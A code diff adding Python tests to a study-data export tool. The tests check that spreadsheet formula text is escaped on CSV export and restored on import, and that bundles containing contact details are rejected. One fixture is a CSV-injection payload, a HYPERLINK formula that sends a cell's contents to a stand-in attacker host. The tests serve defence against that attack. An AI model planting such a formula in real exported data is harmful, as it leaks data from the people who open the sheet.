@@ -259,6 +259,55 @@ def test_export_import_export_gives_the_same_tables(store, tmp_path):
     assert ev2.iloc[:len(ev1)].equals(ev1) and len(ev2) == len(ev1) + 1
 
 
+def test_text_a_spreadsheet_would_run_is_exported_escaped_and_imported_as_it_was(tmp_path):
+    """CSV injection (data steward's audit): notes, a comment, a study description and a
+    preference's words starting with = + - @ were written as they are, and a spreadsheet ran them."""
+    s = StudyStore(tmp_path / "a.sqlite")
+    s.create_study("pilot", "-2+3 rooms")
+    s.add_participant("P01", "25-34", '=HYPERLINK("http://evil.example/?x="&A1,"click")', study="pilot")
+    s.save_preferences("P01", [dict(COUGH, description="@when I cough, check on me")])
+    s.close_day("P01", s.open_day("P01"))
+    s.record_questionnaire("P01", 8, "+1 great robot")
+    first = export.export_study(s, tmp_path / "first")
+    cells = {name: pd.read_csv(first.tables[name], dtype=str, keep_default_na=False)
+             for name in ("participants", "questionnaire", "studies")}
+    assert cells["participants"]["notes"].iloc[0].startswith("'=HYPERLINK")
+    assert cells["questionnaire"]["comments"].iloc[0] == "'+1 great robot"
+    assert "'-2+3 rooms" in cells["studies"]["description"].tolist()
+    target = tmp_path / "b.sqlite"
+    export.import_bundle(first.bundle, target)
+    with StudyStore(target) as moved:
+        assert moved.participants_frame()["notes"].iloc[0] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        assert moved.get_preferences("P01").preferences[0].description == "@when I cough, check on me"
+        assert moved.questionnaire_frame()["comments"].iloc[0] == "+1 great robot"
+        second = export.export_study(moved, tmp_path / "second")
+    for name in ROUND_TRIP:
+        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name
+    s.close()
+
+
+@pytest.mark.parametrize("table,change,message", [
+    ("participants", lambda df: df.assign(notes="Anna, anna.schmidt@example.com"),
+     r"participants.csv, row 2: notes contain what looks like contact details \('anna.schmidt@example.com'\)"),
+    ("questionnaire", lambda df: df.assign(comments="call me on 0612345678"),
+     r"questionnaire.csv, row 2: comments contain what looks like contact details \('0612345678'\)"),
+    ("studies", lambda df: df.assign(description="lead: +44 20 7946 0958"),
+     r"studies.csv, row 2: description contains what looks like contact details"),
+    ("preferences", lambda df: df.assign(preferences=df["preferences"].str.replace(
+        '"action": "pain check"', '"action": "pain check", "description": "mail anna@example.com"')),
+     r"preferences.csv, row 2: .*holds what looks like contact details \('anna@example.com'\)"),
+])
+def test_a_bundle_with_contact_details_is_refused_as_the_forms_refuse_them(store, tmp_path, table, change, message):
+    """The forms refuse contact details in free text (study data are pseudonymous); an edited
+    bundle brought them in unchecked (data steward's audit)."""
+    bundle = export.export_study(store, tmp_path / "out").bundle
+    bad = _rewrite(bundle, tmp_path / "bad.zip", table, change)
+    target = tmp_path / "new" / "study.sqlite"
+    with pytest.raises(CacasError, match=message):
+        export.import_bundle(bad, target)
+    assert not target.exists()
+
+
 def test_a_bundle_from_before_the_model_ids_imports_with_them_empty(store, tmp_path):
     """Bundles exported before schema version 2 have no sound_model / scene_model columns."""
     bundle = export.export_study(store, tmp_path / "out").bundle
